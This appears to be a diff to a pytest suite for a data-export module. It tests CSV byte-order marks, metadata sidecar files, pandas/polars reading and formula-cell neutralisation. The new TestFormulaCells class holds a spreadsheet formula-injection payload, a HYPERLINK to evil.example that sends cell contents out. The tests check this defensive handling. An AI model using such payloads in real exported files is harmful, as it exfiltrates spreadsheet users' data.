@@ -12,6 +12,7 @@ import json
 from urllib.parse import parse_qs
 
 import openpyxl
+import pandas
 import polars as pl
 import pytest
 from polars.testing import assert_frame_equal
@@ -42,32 +43,52 @@ def vintage(db) -> dict:
 
 
 class TestCsv:
+    @staticmethod
+    def written(db, filters: Filters | None = None, **view) -> tuple[pl.DataFrame, bytes, bytes]:
+        frame, meta = downloads.initiatives(db, filters or Filters(), **view)
+        return frame, downloads.to_csv(frame, meta), downloads.metadata_csv(meta)
+
     @pytest.mark.parametrize(("filters", "search", "sort", "descending"), VIEWS)
     def test_read_back_gives_the_listed_rows_in_order(self, db, filters, search, sort, descending):
-        frame, meta = downloads.initiatives(db, filters, search=search, sort=sort, descending=descending)
-        back, read_meta = downloads.read_csv_export(downloads.to_csv(frame, meta))
+        _, data, sidecar = self.written(db, filters, search=search, sort=sort, descending=descending)
+        back, read_meta = downloads.read_csv_export(data, sidecar)
         expected = shown_rows(db, filters, search, sort, descending)
         # the same rows, same order, same values; integer widths may differ after a text round trip
         assert_frame_equal(back.select(expected.columns), expected, check_dtypes=False)
         assert read_meta["rows"] == str(expected.height)
 
-    def test_a_reader_that_skips_comment_lines_gets_the_same_rows(self, db):
-        frame, meta = downloads.initiatives(db, Filters())
-        data = downloads.to_csv(frame, meta)
-        skipped = pl.read_csv(io.BytesIO(data), comment_prefix="#", try_parse_dates=True)
-        assert_frame_equal(skipped, frame, check_dtypes=False)
+    def test_the_header_is_the_first_line_after_a_byte_order_mark(self, db):
+        frame, data, _ = self.written(db)
+        assert data.startswith(b"\xef\xbb\xbf")  # UTF-8's byte-order mark: Excel then reads the file as UTF-8
+        first_line = data[3:].decode("utf-8").splitlines()[0]
+        assert first_line == ",".join(f'"{column}"' for column in frame.columns)
+        assert b"\n#" not in data and not data[3:].startswith(b"#")
+
+    @pytest.mark.parametrize("reader", ["pandas", "polars"])
+    def test_pandas_and_polars_read_it_with_no_options(self, db, reader):
+        frame, data, _ = self.written(db)
+        if reader == "pandas":
+            back = pl.from_pandas(pandas.read_csv(io.BytesIO(data)))
+        else:
+            back = pl.read_csv(io.BytesIO(data))
+        # every column under its own name (no byte-order mark glued to the first), every row, accents intact
+        assert back.columns == frame.columns
+        assert back["id"].to_list() == frame["id"].to_list()
+        assert back["name"].to_list() == frame["name"].to_list()
+        assert "Test software cluster Bogotá" in back["name"].to_list()
+        assert back["registered_on"].cast(pl.String).to_list() == [day.isoformat() for day in frame["registered_on"]]
 
     def test_the_injection_name_is_kept_verbatim(self, db):
-        frame, meta = downloads.initiatives(db, Filters(countries=("CO",)))
-        back, _ = downloads.read_csv_export(downloads.to_csv(frame, meta))
+        _, data, _ = self.written(db, Filters(countries=("CO",)))
+        back, _ = downloads.read_csv_export(data)
         row = back.filter(pl.col("id") == "CO-05").row(0, named=True)
         assert row["name"] == XSS_NAME
         assert row["managing_entity"] == XSS_NAME
 
     def test_metadata_names_the_filters_and_the_vintage(self, db):
         filters = Filters(countries=("CO", "MX"), sectors=("agri",), registered_from=dt.date(2024, 1, 1))
-        frame, meta = downloads.initiatives(db, filters, search="bogota", sort="name", descending=False)
-        _, read_meta = downloads.read_csv_export(downloads.to_csv(frame, meta))
+        _, data, sidecar = self.written(db, filters, search="bogota", sort="name", descending=False)
+        _, read_meta = downloads.read_csv_export(data, sidecar)
         # the filter line is a URL query: parsed by the app it gives back the same filters
         assert Filters.from_query_params({k: v[0] for k, v in parse_qs(read_meta["filters"]).items()}) == filters
         assert (read_meta["search"], read_meta["sort"]) == ("bogota", "name ascending")
@@ -79,21 +100,35 @@ class TestCsv:
         # the export's folder name, not the server's directory layout
         assert "/" not in read_meta["data_source"] and read_meta["data_source"]
 
-    def test_a_row_starting_with_a_hash_is_not_taken_for_a_comment(self, db):
+    def test_the_sidecar_opens_with_no_options_too(self, db):
+        frame, _, sidecar = self.written(db)
+        pairs = pandas.read_csv(io.BytesIO(sidecar), keep_default_na=False)
+        assert list(pairs.columns) == ["key", "value"]
+        assert dict(zip(pairs["key"], pairs["value"], strict=True))["rows"] == str(frame.height)
+        assert pl.read_csv(io.BytesIO(sidecar)).columns == ["key", "value"]
+
+    def test_awkward_values_survive(self, db):
+        """A row starting with `#`, a line break inside a name, a search with a line break in the sidecar."""
         frame = pl.DataFrame({"id": ["#1", "X-2"], "name": ["first\nsecond line", "# not a comment"]})
         meta = downloads.metadata(db, Filters(), "initiatives", frame.height, extra={"search": "two\nlines"})
-        data = downloads.to_csv(frame, meta)
-        assert_frame_equal(pl.read_csv(io.BytesIO(data), comment_prefix="#"), frame)
-        back, read_meta = downloads.read_csv_export(data)
+        data, sidecar = downloads.to_csv(frame, meta), downloads.metadata_csv(meta)
+        assert_frame_equal(pl.read_csv(io.BytesIO(data)), frame)
+        assert pl.from_pandas(pandas.read_csv(io.BytesIO(data))).equals(frame)
+        back, read_meta = downloads.read_csv_export(data, sidecar)
         assert_frame_equal(back, frame)
-        assert read_meta["search"] == "two lines"
+        assert read_meta["search"] == "two\nlines"
 
     def test_synthetic_data_says_so(self, db):
         frame, meta = downloads.initiatives(db, Filters())
         synthetic = downloads.Metadata(**{**meta.__dict__, "synthetic": True})
-        _, read_meta = downloads.read_csv_export(downloads.to_csv(frame, synthetic))
+        _, read_meta = downloads.read_csv_export(downloads.to_csv(frame, synthetic), downloads.metadata_csv(synthetic))
         assert read_meta["data_synthetic"] == "true"
         assert "Synthetic" in read_meta["notice"]
+
+    def test_the_sidecar_is_named_after_the_csv(self, db):
+        frame, meta = downloads.initiatives(db, Filters())
+        csv, sidecar = downloads.build("csv", frame, meta, "iapt-initiatives"), downloads.build_metadata(meta, "iapt-initiatives")
+        assert sidecar.file_name == csv.file_name.removesuffix(".csv") + "-metadata.csv"
 
 
 class TestExcel:
@@ -227,3 +262,23 @@ class TestInLanguage:
         frame, meta = downloads.initiatives(db, Filters(countries=("CO",)))
         back, _ = downloads.read_csv_export(downloads.to_csv(downloads.in_language(frame, "pt", {"CO": "Colômbia"}), meta))
         assert set(back["País"]) == {"Colômbia"} and back["Identificador"].to_list() == frame["id"].to_list()
+
+
+class TestFormulaCells:
+    """A name typed as a spreadsheet formula is text in the CSV and its sidecar (analytics/safe_csv.py)."""
+
+    ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+    def test_the_csv_neutralises_and_raw_keeps_it(self, db):
+        frame, meta = downloads.initiatives(db, Filters(countries=("CO",)))
+        frame = frame.with_columns(pl.lit(self.ATTACK).alias("name"))
+        back, _ = downloads.read_csv_export(downloads.to_csv(frame, meta))
+        assert set(back["name"]) == {"'" + self.ATTACK}
+        assert back["latitude"].dtype == pl.Float64  # numbers stay numbers, negative ones included
+        raw, _ = downloads.read_csv_export(downloads.to_csv(frame, meta, raw=True))
+        assert set(raw["name"]) == {self.ATTACK}
+
+    def test_a_search_in_the_sidecar_is_neutralised(self, db):
+        frame, meta = downloads.initiatives(db, Filters(), search="-1+1")
+        _, read_meta = downloads.read_csv_export(downloads.to_csv(frame, meta), downloads.metadata_csv(meta))
+        assert read_meta["search"] == "'-1+1"
